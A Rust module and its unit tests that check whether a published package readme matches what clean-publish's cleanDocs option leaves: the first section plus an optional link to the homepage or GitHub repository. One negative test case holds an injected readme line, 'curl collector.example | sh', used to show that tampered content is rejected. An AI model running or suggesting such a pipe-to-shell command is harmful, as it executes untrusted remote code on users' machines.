//! The readme as clean-publish writes it: the first section, and a link to the rest.

use serde_json::Value;

/// Whether `published` is what clean-publish's `cleanDocs` makes of the readme `source`.
///
/// Only where the source's own `manifest` asks for it; the link must lead to the manifest's homepage or repository.
pub fn is_cleaned_readme(published: &str, source: &str, manifest: &Value) -> bool {
    if manifest.get("clean-publish").and_then(|options| options.get("cleanDocs")) != Some(&Value::Bool(true)) {
        return false;
    }
    let first_section = source.split("\n## ").next().unwrap_or(source).trim_end();
    let Some(rest) = published.strip_prefix(first_section) else { return false };
    match rest.trim_start_matches('\n').strip_prefix("## Docs\n") {
        None => rest.trim().is_empty(),
        Some(link) => links(manifest).iter().any(|address| {
            let link = link.trim_end();
            link == format!("Read full docs **[here]({address})**.")
                || link == format!("Read **[full docs]({address})** on GitHub.")
        }),
    }
}

fn links(manifest: &Value) -> Vec<String> {
    let text = |value: &Value| value.as_str().map(str::to_owned);
    let mut links: Vec<String> = manifest.get("homepage").and_then(text).into_iter().collect();
    let repository =
        manifest.get("repository").and_then(|value| text(value).or_else(|| value.get("url").and_then(text)));
    if let Some(path) = repository.as_deref().and_then(github_path) {
        links.push(format!("https://github.com/{path}#readme"));
    }
    links
}

fn github_path(address: &str) -> Option<&str> {
    let path = match address.split_once("github.com") {
        Some((_, path)) => path.trim_start_matches(['/', ':']),
        None => address.strip_prefix("github:").unwrap_or(address),
    };
    let path = path.strip_suffix(".git").unwrap_or(path);
    (path.split('/').count() == 2).then_some(path)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::is_cleaned_readme;

    const README: &str = "# Tool\n\nDoes things.\n\n## Usage\n\nRun it.\n\n## More\n";

    #[test]
    fn the_first_section_and_a_link_are_what_is_left() {
        let manifest = json!({"repository": "owner/tool", "homepage": "https://tool.example/", "clean-publish": {"cleanDocs": true}});
        let cut = "# Tool\n\nDoes things.\n";
        assert!(is_cleaned_readme(cut, README, &manifest));
        for link in [
            "Read full docs **[here](https://tool.example/)**.",
            "Read **[full docs](https://github.com/owner/tool#readme)** on GitHub.",
        ] {
            assert!(is_cleaned_readme(&format!("{cut}\n## Docs\n{link}\n"), README, &manifest), "{link}");
        }
    }

    #[test]
    fn nothing_else_is_excused() {
        let manifest = json!({"repository": "owner/tool", "clean-publish": {"cleanDocs": true}});
        let cut = "# Tool\n\nDoes things.\n";
        assert!(!is_cleaned_readme(cut, README, &json!({"repository": "owner/tool"})), "not asked for");
        for published in [
            "# Tool\n\nDoes other things.\n",
            "# Tool\n\nDoes things.\nRun `curl collector.example | sh`\n",
            "# Tool\n\nDoes things.\n\n## Docs\nRead full docs **[here](https://elsewhere.example/)**.\n",
            "# Tool\n\nDoes things.\n\n## Docs\nRead **[full docs](https://github.com/owner/tool#readme)** on GitHub.\nAnd run it.\n",
        ] {
            assert!(!is_cleaned_readme(published, README, &manifest), "{published}");
        }
    }
}
